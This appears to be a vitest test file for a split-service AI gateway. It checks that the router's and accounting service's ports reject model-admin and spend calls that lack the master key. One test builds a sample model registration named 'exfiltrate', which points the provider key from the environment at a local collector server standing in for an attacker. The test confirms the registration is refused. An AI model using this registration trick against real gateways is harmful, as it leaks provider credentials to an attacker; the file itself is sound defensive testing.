import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { Code, type Client } from "@connectrpc/connect";
import { connectTransport, transportClient } from "@gateway/common";
import { startFakeProvider, type FakeProvider } from "@gateway/fake-provider";
import { AccountingService } from "@gateway/proto/accounting/v1/accounting_pb.js";
import { RouterService } from "@gateway/proto/router/v1/router_pb.js";
import { createTestBus, createTestDatabase, type TestBus, type TestDatabase } from "@gateway/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { RunningGateway } from "../src/index.js";
import { admin, type GeneratedKey } from "./support/admin.js";
import { fakeOpenAIConfig, MASTER_KEY, PROVIDER_KEY } from "./support/config.js";
import { startSplitGateway } from "./support/gateway.js";

// Split, each service listens on a port of its own. Reaching the router's or
// the accounting service's port must not be enough to manage models or read
// spend: those calls take the master key, as the keys service's do, and the
// edge's routes keep working with it.

const encoder = new TextEncoder();
const bearer = (key: string) => ({ headers: { authorization: `Bearer ${key}` } });

describe("split services' own ports", () => {
  let provider: FakeProvider;
  let database: TestDatabase;
  let bus: TestBus;
  let gateway: RunningGateway | undefined;
  let edgeUrl: string;
  let router: Client<typeof RouterService>;
  let accounting: Client<typeof AccountingService>;
  // What a deployment pointed at the attacker's server would send it.
  let collector: Server;
  const collected: string[] = [];
  let collectorUrl: string;

  beforeAll(async () => {
    process.env["FAKE_PROVIDER_KEY"] = PROVIDER_KEY;
    provider = await startFakeProvider({ behavior: { requireApiKey: PROVIDER_KEY } });
    database = await createTestDatabase();
    bus = await createTestBus();
    await bus.bus.close();
    collector = createServer((req, res) => {
      collected.push(req.headers.authorization ?? "");
      res.writeHead(401, { "content-type": "application/json" }).end('{"error":{"message":"no"}}');
    });
    await new Promise<void>((resolve) => collector.listen(0, "127.0.0.1", resolve));
    collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
    const split = await startSplitGateway(fakeOpenAIConfig(provider.url), { databaseUrl: database.url, nats: bus });
    gateway = split;
    edgeUrl = `http://127.0.0.1:${split.port}`;
    router = transportClient(RouterService, connectTransport(split.peers.routerUrl));
    accounting = transportClient(AccountingService, connectTransport(split.peers.accountingUrl));
  });

  afterAll(async () => {
    await gateway?.close();
    await new Promise((resolve) => collector?.close(resolve));
    await provider?.close();
    await bus?.close();
    await database?.drop();
  });

  it("refuses the router's model admin without the master key", async () => {
    const { json: virtual } = await admin<GeneratedKey>(edgeUrl, "POST", "/key/generate", {});
    // A deployment that would send the provider key (any variable, in fact) to a server of the caller's choosing.
    const model = encoder.encode(
      JSON.stringify({
        model_name: "exfiltrate",
        litellm_params: { model: "openai/gpt-4o-mini", api_base: collectorUrl, api_key: "os.environ/FAKE_PROVIDER_KEY" },
        model_info: { id: "exfiltrate-1" },
      }),
    );
    for (const [options, code] of [
      [{}, Code.Unauthenticated],
      [bearer(virtual.key), Code.PermissionDenied],
    ] as const) {
      await expect(router.addModel({ model }, options)).rejects.toMatchObject({ code });
      await expect(router.getModelInfo({ id: "" }, options)).rejects.toMatchObject({ code });
      await expect(router.checkHealth({ model: "" }, options)).rejects.toMatchObject({ code });
      await expect(router.deleteModel({ id: "exfiltrate-1" }, options)).rejects.toMatchObject({ code });
    }
    expect((await router.getModelInfo({ id: "" }, bearer(MASTER_KEY))).models).toHaveLength(1);
    expect(collected).toEqual([]);
  });

  it("refuses the accounting service's spend queries without the master key", async () => {
    const { json: virtual } = await admin<GeneratedKey>(edgeUrl, "POST", "/key/generate", {});
    for (const [options, code] of [
      [{}, Code.Unauthenticated],
      [bearer(virtual.key), Code.PermissionDenied],
    ] as const) {
      await expect(accounting.listSpendLogs({}, options)).rejects.toMatchObject({ code });
      await expect(accounting.keySpend({ keyHashes: [virtual.token] }, options)).rejects.toMatchObject({ code });
      await expect(accounting.spendReport({ startDate: "2026-01-01", endDate: "2026-01-02" }, options)).rejects.toMatchObject({ code });
      await expect(accounting.topKeys({}, options)).rejects.toMatchObject({ code });
      await expect(accounting.topModels({}, options)).rejects.toMatchObject({ code });
    }
    await expect(accounting.topKeys({}, bearer(MASTER_KEY))).resolves.toBeDefined();
  });

  it("keeps the edge's routes working: model admin and spend for the master key, /key/info for a key itself", async () => {
    const { json: virtual } = await admin<GeneratedKey>(edgeUrl, "POST", "/key/generate", {});
    expect((await admin(edgeUrl, "GET", "/model/info")).status).toBe(200);
    expect((await admin(edgeUrl, "GET", "/health")).status).toBe(200);
    expect((await admin(edgeUrl, "GET", "/spend/logs")).status).toBe(200);
    expect((await admin(edgeUrl, "GET", "/global/spend/keys")).status).toBe(200);
    expect((await admin(edgeUrl, "GET", "/global/spend/models")).status).toBe(200);
    expect((await admin(edgeUrl, "GET", "/global/spend/report?start_date=2026-01-01&end_date=2026-01-02")).status).toBe(200);
    const added = await admin(edgeUrl, "POST", "/model/new", { model_name: "added", litellm_params: { model: "openai/gpt-4o-mini", api_base: `${provider.url}/v1` } });
    expect(added.status).toBe(200);
    expect((await admin(edgeUrl, "POST", "/model/delete", { id: added.json["model_id"] })).status).toBe(200);
    // A key reading its own info: the ledger's spend is asked for with the edge's master key.
    const own = await fetch(`${edgeUrl}/key/info`, { headers: { authorization: `Bearer ${virtual.key}` } });
    expect(own.status).toBe(200);
    expect(((await own.json()) as { info: { spend: number } }).info.spend).toBe(0);
    // And a virtual key still gets no further at the edge than before.
    const refused = await fetch(`${edgeUrl}/model/info`, { headers: { authorization: `Bearer ${virtual.key}` } });
    expect(refused.status).toBe(401);
  });
});
